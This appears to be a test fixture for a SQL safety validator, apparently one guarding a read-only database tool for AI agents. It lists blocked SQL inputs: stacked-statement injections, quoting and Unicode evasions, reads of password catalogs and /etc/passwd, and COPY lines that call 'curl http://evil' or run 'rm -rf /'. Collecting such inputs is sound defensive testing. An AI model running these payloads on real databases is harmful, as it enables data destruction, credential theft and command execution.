-- rule: multiple_statements
SELECT 1; DROP TABLE canary
-- @@
-- rule: multiple_statements
COMMIT; DROP TABLE canary;
-- @@
-- rule: multiple_statements
SELECT 1;
SELECT 2;
-- @@
-- rule: multiple_statements
SELECT $$a$$; DELETE FROM canary
-- @@
-- rule: multiple_statements
SELECT 'it''s'; DELETE FROM canary
-- @@
-- rule: multiple_statements
SELECT E'\\'; DELETE FROM canary -- '
-- @@
-- rule: multiple_statements
SELECT /* ; */ 1; DELETE FROM canary
-- @@
-- rule: multiple_statements
SELECT "a;b" FROM canary; DROP TABLE canary
-- @@
-- rule: multiple_statements
SELECT 1 /* nested /* comment */ still a comment */; UPDATE canary SET x = 1
-- @@
-- rule: multiple_statements
SELECT $fn$ $$ ; $$ $fn$; DROP TABLE canary
-- @@
-- rule: multiple_statements
SELECT 'a' -- comment ends the line, the next line is a new statement
; DELETE FROM canary
-- @@
-- rule: read_only
/* SELECT */ DELETE FROM canary
-- @@
-- rule: read_only
-- x
DELETE FROM canary
-- @@
-- rule: read_only
/* outer /* inner */ SELECT */ DELETE FROM canary WHERE true
-- @@
-- rule: read_only
((DELETE FROM canary))
-- @@
-- rule: read_only
WITH d AS (DELETE FROM canary RETURNING *) SELECT * FROM d
-- @@
-- rule: read_only
WITH u AS (UPDATE canary SET x = 1 RETURNING x) SELECT count(*) FROM u
-- @@
-- rule: read_only
WITH i AS (INSERT INTO canary VALUES (1) RETURNING 1) SELECT 1
-- @@
-- rule: read_only
WITH a AS (SELECT 1), b AS MATERIALIZED (UPSERT INTO canary VALUES (1) RETURNING 1) SELECT 1
-- @@
-- rule: read_only
WITH RECURSIVE r AS (SELECT 1) , m AS (MERGE INTO canary c USING r ON true WHEN MATCHED THEN DELETE) SELECT 1
-- @@
-- rule: read_only
SELECT * INTO new_table FROM canary
-- @@
-- rule: read_only
SELECT 1 AS x INTO TEMP t2
-- @@
-- rule: read_only
select 1into canary2
-- @@
-- rule: read_only
EXPLAIN ANALYZE DELETE FROM canary
-- @@
-- rule: read_only
EXPLAIN (ANALYZE) DELETE FROM canary
-- @@
-- rule: read_only
EXPLAIN (ANALYZE true, BUFFERS) UPDATE canary SET x = 2
-- @@
-- rule: read_only
EXPLAIN ANALYSE INSERT INTO canary VALUES (1)
-- @@
-- rule: read_only
EXPLAIN (FORMAT JSON, ANALYZE on) DELETE FROM canary
-- @@
-- rule: read_only
explain analyze verbose with d as (delete from canary returning 1) select 1
-- @@
-- rule: read_only
EXPLAIN ANALYZE (DISTSQL) UPSERT INTO canary VALUES (1)
-- @@
-- rule: read_only
SELECT * FROM canary FOR UPDATE
-- @@
-- rule: read_only
SELECT id FROM canary FOR NO KEY UPDATE SKIP LOCKED
-- @@
-- rule: read_only
SELECT id FROM canary FOR SHARE
-- @@
-- rule: read_only
SELECT id FROM canary FOR KEY SHARE
-- @@
-- rule: read_only
INSERT INTO canary VALUES (1)
-- @@
-- rule: read_only
UPDATE canary SET x = 1
-- @@
-- rule: read_only
UPSERT INTO canary (id) VALUES (1)
-- @@
-- rule: read_only
MERGE INTO canary c USING src s ON c.id = s.id WHEN MATCHED THEN DELETE
-- @@
-- rule: read_only
SELECT * FROM [DELETE FROM canary RETURNING id]
-- @@
-- rule: read_only
CREATE TABLE canary2 (id int)
-- @@
-- rule: read_only
CREATE INDEX ON canary (x)
-- @@
-- rule: read_only
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$
-- @@
-- rule: read_only
COMMENT ON TABLE canary IS 'x'
-- @@
-- rule: read_only
REFRESH MATERIALIZED VIEW mv
-- @@
-- rule: read_only
VACUUM canary
-- @@
-- rule: read_only
ANALYZE canary
-- @@
-- rule: read_only
SET CLUSTER SETTING kv.rangefeed.enabled = true
-- @@
-- rule: read_only
RESET CLUSTER SETTING sql.defaults.default_int_size
-- @@
-- rule: read_only
BACKUP DATABASE defaultdb INTO 'nodelocal://1/b'
-- @@
-- rule: read_only
RESTORE DATABASE defaultdb FROM LATEST IN 'nodelocal://1/b'
-- @@
-- rule: read_only
IMPORT INTO canary CSV DATA ('nodelocal://1/x.csv')
-- @@
-- rule: read_only
EXPORT INTO CSV 'nodelocal://1/x' FROM SELECT * FROM canary
-- @@
-- rule: read_only
CREATE CHANGEFEED FOR TABLE canary INTO 'kafka://x'
-- @@
-- rule: read_only
EXPERIMENTAL CHANGEFEED FOR canary
-- @@
-- rule: read_only
CANCEL JOB 123
-- @@
-- rule: read_only
PAUSE JOB 123
-- @@
-- rule: read_only
RESUME JOB 123
-- @@
-- rule: read_only
CANCEL QUERY '1234'
-- @@
-- rule: read_only
CALL do_something()
-- @@
-- rule: read_only
NOTIFY chan, 'x'
-- @@
-- rule: read_only
LOCK TABLE canary IN ACCESS EXCLUSIVE MODE
-- @@
-- rule: read_only
CHECKPOINT
-- @@
-- rule: read_only
FROBNICATE canary
-- @@
-- rule: blocked_command
DROP TABLE canary
-- @@
-- rule: blocked_command
drop	table	canary
-- @@
-- rule: blocked_command
TRUNCATE canary
-- @@
-- rule: blocked_command
ALTER TABLE canary ADD COLUMN y int
-- @@
-- rule: blocked_command
ALTER TABLE canary CONFIGURE ZONE USING num_replicas = 1
-- @@
-- rule: blocked_command
GRANT SELECT ON canary TO public
-- @@
-- rule: blocked_command
REVOKE ALL ON canary FROM public
-- @@
-- rule: blocked_command
CREATE USER evil WITH PASSWORD 'x'
-- @@
-- rule: blocked_command
CREATE ROLE evil LOGIN
-- @@
-- rule: blocked_command
DROP ROLE evil
-- @@
-- rule: blocked_command
ALTER USER root WITH PASSWORD 'x'
-- @@
-- rule: blocked_command
EXPLAIN ANALYZE DROP TABLE canary
-- @@
-- rule: transaction_control
BEGIN
-- @@
-- rule: transaction_control
COMMIT
-- @@
-- rule: transaction_control
START TRANSACTION READ WRITE
-- @@
-- rule: transaction_control
ROLLBACK
-- @@
-- rule: transaction_control
SAVEPOINT s1
-- @@
-- rule: transaction_control
PREPARE TRANSACTION 'x'
-- @@
-- rule: transaction_control
END
-- @@
-- rule: transaction_control
/* hide */ ABORT;
-- @@
-- rule: session_change
SET TRANSACTION READ WRITE
-- @@
-- rule: session_change
SET default_transaction_read_only = off
-- @@
-- rule: session_change
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
-- @@
-- rule: session_change
SET ROLE admin
-- @@
-- rule: session_change
SET SESSION AUTHORIZATION postgres
-- @@
-- rule: session_change
RESET ALL
-- @@
-- rule: session_change
RESET ROLE
-- @@
-- rule: session_change
SET search_path = evil, public
-- @@
-- rule: session_change
USE otherdb
-- @@
-- rule: session_change
set local statement_timeout = 0
-- @@
-- rule: session_change
SET transaction_read_only = false
-- @@
-- rule: side_effect_function
SELECT set_config('default_transaction_read_only', 'off', false)
-- @@
-- rule: side_effect_function
SELECT pg_sleep(10)
-- @@
-- rule: side_effect_function
SELECT "pg_sleep"(1)
-- @@
-- rule: side_effect_function
SELECT "PG_SLEEP"(1)
-- @@
-- rule: side_effect_function
SELECT U&"pg\005fsleep"(1)
-- @@
-- rule: side_effect_function
SELECT U&"pg!005fsleep" UESCAPE '!' (1)
-- @@
-- rule: side_effect_function
SELECT pg_catalog.pg_sleep(1)
-- @@
-- rule: side_effect_function
SELECT pg_catalog . pg_sleep /* gap */ (1)
-- @@
-- rule: side_effect_function
SELECT * FROM pg_sleep(1)
-- @@
-- rule: side_effect_function
SELECT nextval('seq')
-- @@
-- rule: side_effect_function
SELECT setval('seq', 1)
-- @@
-- rule: side_effect_function
SELECT pg_terminate_backend(123)
-- @@
-- rule: side_effect_function
SELECT pg_cancel_backend(1)
-- @@
-- rule: side_effect_function
SELECT pg_reload_conf()
-- @@
-- rule: side_effect_function
SELECT pg_advisory_lock(1)
-- @@
-- rule: side_effect_function
SELECT pg_try_advisory_xact_lock(1)
-- @@
-- rule: side_effect_function
SELECT lo_create(0)
-- @@
-- rule: dangerous_function
SELECT dblink_exec('host=x', 'DROP TABLE canary')
-- @@
-- rule: dangerous_function
SELECT query_to_xml('DELETE FROM canary RETURNING 1', true, true, '')
-- @@
-- rule: side_effect_function
SELECT pg_notify('c', 'x')
-- @@
-- rule: side_effect_function
SELECT pg_create_logical_replication_slot('s', 'pgoutput')
-- @@
-- rule: side_effect_function
SELECT pg_switch_wal()
-- @@
-- rule: side_effect_function
SELECT crdb_internal.node_executable_version()
-- @@
-- rule: side_effect_function
SELECT id FROM canary WHERE id = (SELECT nextval('seq'))
-- @@
-- rule: dangerous_function
SELECT crdb_internal.force_panic('x')
-- @@
-- rule: dangerous_function
SELECT crdb_internal.unsafe_upsert_descriptor(1, 'x', true)
-- @@
-- rule: dangerous_function
SELECT crdb_internal.unsafe_delete_namespace_entry(1, 2, 'x', 3)
-- @@
-- rule: dangerous_function
SELECT "crdb_internal"."force_log_fatal"('x')
-- @@
-- rule: dangerous_function
SELECT crdb_internal.reset_sql_stats()
-- @@
-- rule: file_access
SELECT pg_read_file('/etc/passwd')
-- @@
-- rule: file_access
SELECT pg_read_binary_file('/etc/passwd')
-- @@
-- rule: file_access
SELECT * FROM pg_ls_dir('.')
-- @@
-- rule: file_access
SELECT * FROM pg_ls_waldir()
-- @@
-- rule: file_access
SELECT pg_stat_file('postgresql.conf')
-- @@
-- rule: file_access
SELECT lo_import('/etc/passwd')
-- @@
-- rule: file_access
SELECT lo_export(1, '/tmp/x')
-- @@
-- rule: file_access
SELECT pg_file_write('x', 'y', false)
-- @@
-- rule: file_access
SELECT pg_catalog.pg_read_file(E'/etc/pass\x77d')
-- @@
-- rule: file_access
COPY canary TO '/tmp/out.csv'
-- @@
-- rule: file_access
COPY canary FROM PROGRAM 'curl http://evil'
-- @@
-- rule: file_access
COPY (SELECT 1) TO PROGRAM 'rm -rf /'
-- @@
-- rule: file_access
COPY canary FROM '/etc/passwd'
-- @@
-- rule: utility
DO $$ BEGIN DELETE FROM canary; END $$
-- @@
-- rule: utility
DO LANGUAGE plpgsql $x$ BEGIN PERFORM 1; END $x$
-- @@
-- rule: utility
PREPARE p AS DELETE FROM canary
-- @@
-- rule: utility
EXECUTE p
-- @@
-- rule: utility
DEALLOCATE ALL
-- @@
-- rule: utility
LISTEN chan
-- @@
-- rule: utility
UNLISTEN *
-- @@
-- rule: utility
LOAD 'auto_explain'
-- @@
-- rule: utility
DISCARD ALL
-- @@
-- rule: utility
COPY canary TO STDOUT
-- @@
-- rule: utility
COPY canary FROM STDIN
-- @@
-- rule: credential_catalog
SELECT * FROM pg_authid
-- @@
-- rule: credential_catalog
SELECT rolpassword FROM pg_catalog.pg_authid
-- @@
-- rule: credential_catalog
SELECT passwd FROM pg_shadow
-- @@
-- rule: credential_catalog
SELECT * FROM "pg_authid"
-- @@
-- rule: credential_catalog
SELECT * FROM U&"pg\005fauthid"
-- @@
-- rule: credential_catalog
select * from PG_AUTHID
-- @@
-- rule: credential_catalog
SELECT (SELECT rolpassword FROM pg_authid LIMIT 1) AS x
-- @@
-- rule: credential_catalog
SELECT * FROM pg_user_mappings
-- @@
-- rule: credential_catalog
SELECT * FROM pg_largeobject
-- @@
-- rule: credential_catalog
SELECT * FROM system.users
-- @@
-- rule: credential_catalog
SELECT "hashedPassword" FROM system.public.users
-- @@
-- rule: credential_catalog
SELECT * FROM "system"."users"
-- @@
-- rule: credential_catalog
SELECT * FROM system.role_options
-- @@
-- rule: credential_catalog
SELECT * FROM system.web_sessions
-- @@
-- rule: blocked_table
SELECT * FROM secrets
-- @@
-- rule: blocked_table
SELECT s.token FROM public.secrets s
-- @@
-- rule: blocked_table
SELECT * FROM "secrets"
-- @@
-- rule: blocked_table
SELECT * FROM U&"secr\0065ts"
-- @@
-- rule: blocked_table
SELECT count(*) FROM canary c JOIN secrets s ON s.id = c.id
-- @@
-- rule: blocked_table
SELECT * FROM canary, (SELECT * FROM secrets) x
-- @@
-- rule: blocked_table
SELECT * FROM canary WHERE id IN (SELECT id FROM secrets)
-- @@
-- rule: blocked_table
WITH x AS (SELECT * FROM secrets) SELECT * FROM x
-- @@
-- rule: blocked_table
TABLE secrets
-- @@
-- rule: blocked_column
SELECT * FROM users
-- @@
-- rule: blocked_column
SELECT u.* FROM users u
-- @@
-- rule: blocked_column
SELECT password_hash FROM users
-- @@
-- rule: blocked_column
SELECT id, "password_hash" FROM public.users
-- @@
-- rule: blocked_column
SELECT row_to_json(u) FROM users u
-- @@
-- rule: blocked_column
SELECT to_jsonb(users) FROM users
-- @@
-- rule: blocked_column
TABLE users
-- @@
-- rule: blocked_column
SELECT DISTINCT ON (id) * FROM users
-- @@
-- rule: blocked_column
SELECT u.id FROM users u WHERE u.password_hash LIKE 'a%'
-- @@
-- rule: blocked_column
SELECT o.id, x.* FROM orders o JOIN users x ON x.id = o.user_id
-- @@
-- rule: syntax
SELECT 'unterminated
-- @@
-- rule: syntax
SELECT "unterminated
-- @@
-- rule: syntax
SELECT 1 /* unterminated /* nested */
-- @@
-- rule: syntax
SELECT $$unterminated
-- @@
-- rule: syntax
SELECT E'abc\'
-- @@
-- rule: multiple_statements
SELECT E'\''; DELETE FROM canary; --'
-- @@
-- rule: empty_statement
;
-- @@
-- rule: empty_statement
-- only a comment
-- @@
-- rule: empty_statement
/* nothing */ ; ;
-- @@
-- rule: statistics_catalog
SELECT most_common_vals, histogram_bounds FROM pg_stats WHERE tablename = 'users' AND attname = 'password_hash'
-- @@
-- rule: statistics_catalog
SELECT * FROM pg_catalog.pg_statistic
-- @@
-- rule: statistics_catalog
SELECT "histogram_bounds" FROM "pg_stats"
-- @@
-- rule: statistics_catalog
SHOW STATISTICS FOR TABLE users
-- @@
-- rule: statistics_catalog
SHOW CREATE ALL TABLES
-- @@
-- rule: statistics_catalog
SELECT create_statement FROM crdb_internal.create_statements
-- @@
-- rule: syntax
SELECT 1) TO PROGRAM 'touch /tmp/pwn' --
-- @@
-- rule: syntax
SELECT 1)) TO '/tmp/x' --
-- @@
-- rule: syntax
SELECT (1
-- @@
-- rule: file_access
SELECT E'a'
'\'', pg_read_file('/etc/passwd')
-- @@
-- rule: credential_catalog
SELECT E'x'
'\'', (SELECT rolpassword FROM pg_authid LIMIT 1)
-- @@
-- rule: blocked_table
SELECT E'q'
'\'' AS s, token FROM secrets
-- @@
-- rule: multiple_statements
SELECT 1 FROM canary WHERE note = E'a'
'\''); COMMIT; UPDATE canary SET note = 'pwned'; CREATE TABLE pwned (x int) --'
-- @@
-- rule: multiple_statements
SELECT 1 FROM canary WHERE note = E'a'
'\''); COPY (SELECT 1) TO PROGRAM 'touch /tmp/crdb-mcp-pwned' --'
-- @@
-- rule: side_effect_function
SELECT N'a'
'b', set_config('search_path', 'hidden', false)
-- @@
-- rule: side_effect_function
SELECT U&'\0041'
'b', nextval('s')
-- @@
-- rule: file_access
SELECT X'1F'
'2F', pg_ls_dir('.')
-- @@
-- rule: side_effect_function
SELECT E'a' -- a comment between the parts
'\'' || E'b'
   '\\', pg_advisory_lock(1)
-- @@
-- rule: dangerous_function
SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, ''b''::tsquery')
-- @@
-- rule: dangerous_function
SELECT ts_stat('SELECT to_tsvector(token) FROM secrets')
-- @@
-- rule: dangerous_function
SELECT cursor_to_xml('c', 1, false, false, '')
-- @@
-- rule: dangerous_function
SELECT query_to_xmlschema('SELECT set_config(''search_path'', ''hidden'', false)', true, true, '')
-- @@
-- rule: dangerous_function
SELECT pg_catalog.ts_rewrite('a'::tsquery, 'SELECT token::tsquery, ''b''::tsquery FROM secrets')
-- @@
-- rule: side_effect_function
SELECT txid_current()
-- @@
-- rule: side_effect_function
SELECT pg_current_xact_id()
-- @@
-- rule: side_effect_function
SELECT brin_summarize_new_values('users_name_idx')
-- @@
-- rule: side_effect_function
SELECT brin_desummarize_range('users_name_idx', 0)
-- @@
-- rule: side_effect_function
SELECT setseed(0.5)
-- @@
-- rule: catalog_access
SELECT relname FROM pg_class
-- @@
-- rule: catalog_access
SELECT attname FROM pg_catalog.pg_attribute WHERE attrelid = 16384
-- @@
-- rule: catalog_access
SELECT nspname FROM pg_namespace
-- @@
-- rule: catalog_access
SELECT datname FROM pg_database
-- @@
-- rule: catalog_access
SELECT column_name FROM information_schema.columns WHERE table_name = 'users'
-- @@
-- rule: catalog_access
SELECT indexrelid FROM pg_index WHERE indisunique
-- @@
-- rule: catalog_access
SELECT pg_get_indexdef(16390)
-- @@
-- rule: catalog_access
SELECT pg_get_constraintdef(16391)
-- @@
-- rule: catalog_access
SELECT pg_relation_size('secrets'::text)
-- @@
-- rule: catalog_access
SELECT 'users'::regclass::oid
-- @@
-- rule: catalog_access
SELECT has_table_privilege('secrets', 'SELECT')
-- @@
-- rule: catalog_access
SELECT obj_description(16384)
-- @@
-- rule: catalog_access
SELECT relname FROM pg_catalog.pg_class WHERE relname = 'pg_authid'
-- @@
-- rule: catalog_access
SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'
-- @@
-- rule: catalog_access
SELECT rolname, rolsuper FROM pg_roles
-- @@
-- rule: server_config
SELECT * FROM pg_hba_file_rules
-- @@
-- rule: server_config
SELECT name, setting FROM pg_file_settings
-- @@
-- rule: server_config
SELECT * FROM pg_catalog.pg_ident_file_mappings
-- @@
-- rule: file_access
SELECT ('/etc/passwd'::text).pg_read_file
-- @@
-- rule: file_access
SELECT (f).pg_read_binary_file FROM (VALUES ('postgresql.auto.conf'::text)) v(f)
-- @@
-- rule: file_access
SELECT (('.'::text)).pg_ls_dir
-- @@
-- rule: file_access
SELECT ('PG_VERSION'::text)."pg_stat_file"
-- @@
-- rule: file_access
SELECT ('PG_VERSION'::text).U&"pg\005fstat\005ffile"
-- @@
-- rule: file_access
SELECT x FROM canary c, LATERAL (SELECT (c.note).pg_read_file) l(x)
-- @@
-- rule: dangerous_function
SELECT ('SELECT to_tsvector(token) FROM secrets'::text).ts_stat
-- @@
-- rule: dangerous_function
SELECT (q).ts_stat FROM (SELECT $$SELECT to_tsvector(set_config('search_path', 'x', false))$$::text AS q) s
-- @@
-- rule: multiple_statements
SELECT U&'\0027' /* c */ UESCAPE '\'; DELETE FROM canary
-- @@
-- rule: multiple_statements
SELECT U&'!0027' UESCAPE '!'; DELETE FROM canary --
-- @@
-- rule: multiple_statements
SELECT $_ä1$ $$ ; $$ $_ä1$; DELETE FROM canary
-- @@
-- rule: multiple_statements
SELECT 1 /* /* */ ; DELETE FROM canary */; DELETE FROM canary
-- @@
-- rule: multiple_statements
SELECT 'a' -- c
'b'; DELETE FROM canary
-- @@
-- rule: multiple_statements
SELECT N'x'
'\'; DELETE FROM canary --'
-- @@
-- rule: multiple_statements
SELECT B'1'
'0'; DELETE FROM canary
-- @@
-- rule: syntax
SELECT E'x\\'); COMMIT; UPDATE canary SET note = 'pwned'; SELECT ('
-- @@
-- rule: dangerous_function
SELECT * FROM crosstab('SELECT token, token, token FROM secrets') AS t(a text, b text)
-- @@
-- rule: dangerous_function
SELECT * FROM public.crosstab('SELECT pg_read_file(''/etc/passwd''), 1, 2') AS t(a text, b text)
-- @@
-- rule: dangerous_function
SELECT * FROM connectby('canary', 'note', 'id', '1', 0) AS t(a text, b text, c int)
-- @@
-- rule: dangerous_function
SELECT * FROM xpath_table('id', 'note', 'canary', '/x', 'true') AS t(id int, x text)
